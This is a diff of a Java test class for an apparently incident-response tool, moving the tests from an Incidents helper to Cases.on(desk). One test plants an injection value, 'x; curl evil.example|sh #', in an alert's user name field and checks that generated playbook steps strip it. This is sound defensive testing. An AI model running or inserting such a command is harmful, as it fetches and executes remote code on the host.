@@ -10,9 +10,8 @@ import java.util.concurrent.Callable;
 import java.util.concurrent.ExecutionException;
 import java.util.concurrent.Executors;
 import mo.farol.alert.Alert;
+import mo.farol.incident.Cases;
 import mo.farol.incident.Conflict;
-import mo.farol.incident.IncidentPolicy;
-import mo.farol.incident.Incidents;
 import mo.farol.incident.TimelineEntry;
 import mo.farol.ledger.Deeds;
 import mo.farol.ledger.Desk;
@@ -60,7 +59,7 @@ class RunsTest {
     try (var desk = Desk.open(folder)) {
       var run = started(desk);
       var none =
-          new Runs(desk.ledger, desk.deeds, Playbooks.load(List.of()), incidents(desk), desk.clock);
+          new Runs(desk.ledger, desk.deeds, Playbooks.load(List.of()), Cases.on(desk), desk.clock);
       assertThat(none.get(run.id(), Desk.NATIONAL)).contains(run);
       assertThat(run.sha256()).hasSize(64);
       assertThat(run.modified()).isEqualTo("2026-11-24T00:00:00.000Z");
@@ -126,7 +125,7 @@ class RunsTest {
     try (var desk = Desk.open(folder)) {
       var run = started(desk);
       desk.raise(SampleAlert.named("a2").about("host.name", "db-1").raised());
-      incidents(desk).catchUp();
+      Cases.on(desk).catchUp();
       runs(desk).start("FRL-2026-0002", run.playbook(), "ana", Desk.NATIONAL);
       assertThat(runs(desk).open(Desk.NATIONAL, 10))
           .extracting(Task::incident)
@@ -169,7 +168,7 @@ class RunsTest {
     try (var desk = Desk.open(folder)) {
       var run = started(desk);
       runs(desk).complete(run.id(), open(run, 0), "ana", "it worked at 07:31", Desk.NATIONAL);
-      assertThat(incidents(desk).timeline(CASE, Desk.NATIONAL))
+      assertThat(Cases.on(desk).timeline(CASE, Desk.NATIONAL))
           .filteredOn(e -> e.kind().equals("step"))
           .extracting(TimelineEntry::text)
           .containsExactly(
@@ -189,7 +188,7 @@ class RunsTest {
           SampleAlert.named("a1")
               .about("host.name", "web-1", "user.name", "x; curl evil.example|sh #")
               .raised());
-      incidents(desk).catchUp();
+      Cases.on(desk).catchUp();
       var run = runs(desk).start(CASE, book().getFirst().id(), "ana", Desk.NATIONAL);
       assertThat(run.steps().toString()).doesNotContain("curl").contains("__user_name__");
     }
@@ -212,7 +211,7 @@ class RunsTest {
   void a_case_that_a_sudden_end_left_without_its_playbook_gets_it_at_the_next_start() {
     try (var desk = Desk.open(folder)) {
       desk.raise(SampleAlert.named("a1").techniques("T1110").raised());
-      incidents(desk).catchUp(); // nobody listens
+      Cases.on(desk).catchUp(); // nobody listens
 
       assertThat(runs(desk).answerAll()).isEqualTo(1);
       assertThat(runs(desk).ofIncident(CASE, Desk.NATIONAL)).hasSize(1);
@@ -225,7 +224,7 @@ class RunsTest {
   }
 
   private Run started(Desk desk) {
-    var incidents = incidents(desk);
+    var incidents = Cases.on(desk);
     desk.raise(SampleAlert.named("a1").raised());
     incidents.catchUp();
     return runs(desk).answer(incidents.get(CASE, Desk.NATIONAL).orElseThrow()).orElseThrow();
@@ -239,13 +238,8 @@ class RunsTest {
     return Playbooks.load(List.of(Path.of("book"))).all();
   }
 
-  private static Incidents incidents(Desk desk) {
-    return new Incidents(
-        desk.ledger, desk.deeds, desk.alerts, desk.clock, IncidentPolicy.reference());
-  }
-
   private static Runs runs(Desk desk) {
     var playbooks = Playbooks.load(List.of(Path.of("book")));
-    return new Runs(desk.ledger, desk.deeds, playbooks, incidents(desk), desk.clock);
+    return new Runs(desk.ledger, desk.deeds, playbooks, Cases.on(desk), desk.clock);
   }
 }
